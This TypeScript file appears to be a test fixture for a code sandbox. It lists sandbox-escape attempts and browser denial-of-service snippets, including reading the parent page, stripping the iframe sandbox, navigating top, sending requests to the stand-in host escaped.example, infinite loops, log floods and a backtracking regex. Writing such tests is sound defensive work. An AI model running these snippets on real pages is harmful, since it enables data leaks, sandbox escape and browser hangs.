/**
 * What hostile code tries. Each is the body of an async function: it returns true if it got what it wanted, or null if the page around or
 * the network has to tell. Requests go to `https://escaped.example/` with the name of the attempt, so that the network knows whose they are.
 */
export type Attempts = Readonly<Record<string, string>>;

const at = (name: string) => JSON.stringify(`https://escaped.example/${name}`);

/** Attempts for code in a page. */
export const pageAttempts: Attempts = {
  parent: 'return parent !== window && parent.document.body.innerHTML.length > 0',
  title: 'parent.document.title = "escaped"; return true',
  cookie: 'document.cookie = "escaped=1"; return document.cookie.includes("escaped")',
  storage: 'localStorage.setItem("escaped", "1"); return true',
  session: 'sessionStorage.setItem("escaped", "1"); return true',
  database:
    'return new Promise((resolve, reject) => { const open = indexedDB.open("escaped"); open.onsuccess = () => resolve(true); open.onerror = reject; })',
  sandbox: 'frameElement.removeAttribute("sandbox"); return true',
  fetch: `await fetch(${at('fetch')}, { mode: "no-cors" }); return null`,
  xhr: `const sent = new XMLHttpRequest(); sent.open("GET", ${at('xhr')}); sent.send(); return null`,
  beacon: `navigator.sendBeacon(${at('beacon')}, "a"); return null`,
  events: `new EventSource(${at('events')}); return null`,
  import: `await import(${at('import')}); return null`,
  image: `new Image().src = ${at('image')}; return null`,
  script: `const script = document.createElement("script"); script.src = ${at('script')}; document.head.append(script); return null`,
  styles: `const style = document.createElement("style"); style.textContent = '@import ' + JSON.stringify(${at('styles')}); document.head.append(style); return null`,
  preload: `const link = document.createElement("link"); Object.assign(link, { rel: "preload", as: "image", href: ${at('preload')} }); document.head.append(link); return null`,
  frame: `const frame = document.createElement("iframe"); frame.src = ${at('frame')}; document.body.append(frame); return null`,
  form: `const form = document.createElement("form"); form.action = ${at('form')}; document.body.append(form); form.submit(); return null`,
  top: `top.location.href = ${at('top')}; return null`,
  window: `return window.open(${at('window')}) !== null`,
  dialog: 'alert("escaped"); return null',
  download:
    'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["escaped"])); a.download = "escaped.txt"; document.body.append(a); a.click(); return null',
  worker:
    'const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); return new Promise((resolve, reject) => { worker.onmessage = () => resolve(true); worker.onerror = reject; })',
  service: 'await navigator.serviceWorker.register("/worker.js"); return true',
  peer: 'const peer = new RTCPeerConnection(); peer.createDataChannel("a"); await peer.setLocalDescription(await peer.createOffer()); return true',
  'peer-in-frame': `const frame = document.createElement("iframe");
    frame.srcdoc = '<script>parent.postMessage(typeof RTCPeerConnection, "*")</' + 'script>';
    const told = new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data === "function")); setTimeout(() => resolve(false), 1500); });
    document.body.append(frame); return told`,
  'peer-in-shadow': `const host = document.createElement("div"); document.body.append(host);
    const frame = document.createElement("iframe");
    frame.srcdoc = '<script>parent.postMessage(typeof RTCPeerConnection, "*")</' + 'script>';
    const told = new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data === "function")); setTimeout(() => resolve(false), 1500); });
    host.attachShadow({ mode: "closed" }).append(frame); return told`,
  // The last: where it is refused, the browser shows an error in place of the code.
  self: `location.href = ${at('self')}; return null`,
};

/** Attempts for code in a worker. */
export const workerAttempts: Attempts = {
  fetch: `await fetch(${at('fetch')}, { mode: "no-cors" }); return null`,
  xhr: `const sent = new XMLHttpRequest(); sent.open("GET", ${at('xhr')}); sent.send(); return null`,
  events: `new EventSource(${at('events')}); return null`,
  scripts: `importScripts(${at('scripts')}); return null`,
  database:
    'return new Promise((resolve, reject) => { const open = indexedDB.open("escaped"); open.onsuccess = () => resolve(true); open.onerror = reject; })',
  worker:
    'const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); return new Promise((resolve, reject) => { worker.onmessage = () => resolve(true); worker.onerror = reject; })',
};

/** Writes the script that tries all of them one after the other, and says how each ended: `fetch: true`, or `fetch: SecurityError`. */
export function tryAll(attempts: Attempts): string {
  const functions = Object.entries(attempts).map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`);
  return `(async () => {
  const attempts = { ${functions.join(',\n')} };
  for (const [name, attempt] of Object.entries(attempts)) {
    let told;
    try { told = await attempt(); } catch (error) { told = error instanceof Event ? error.type : error.name; }
    console.log(name + ': ' + told);
  }
  console.log('all tried');
})();`;
}

/** Code that goes on forever, or fills what it can: its name, and whether it needs a page. */
export const endless: readonly (readonly [name: string, language: 'js' | 'html', code: string])[] = [
  ['a loop', 'js', 'while (true) {}'],
  ['a loop that catches', 'js', 'for (;;) { try { for (;;) {} } catch {} }'],
  ['calls without an end', 'js', 'const f = () => { try { f(); } catch { f(); } }; f();'],
  ['promises without an end', 'js', 'const f = () => Promise.resolve().then(f); await f();'],
  ['lines without an end', 'js', 'for (let a = 0; ; a++) console.log(a);'],
  ['messages without an end', 'js', 'for (;;) postMessage({ kind: "line", level: "log", text: "x".repeat(10000) });'],
  ['a slow pattern', 'js', '/^(a+)+$/.test("a".repeat(40) + "b");'],
  ['a loop in a page', 'html', '<script>while (true) {}</script>'],
  ['promises without an end in a page', 'html', '<script>const f = () => Promise.resolve().then(f); f();</script>'],
  ['lines without an end in a page', 'html', '<script>for (let a = 0; ; a++) console.log(a);</script>'],
  ['a handler without an end', 'html', '<img src="x" onerror="while (true) {}">'],
  ['messages to the page around', 'html', '<script>for (let a = 0; a < 1e6; a++) parent.postMessage("x".repeat(1000), "*");</script>'],
];
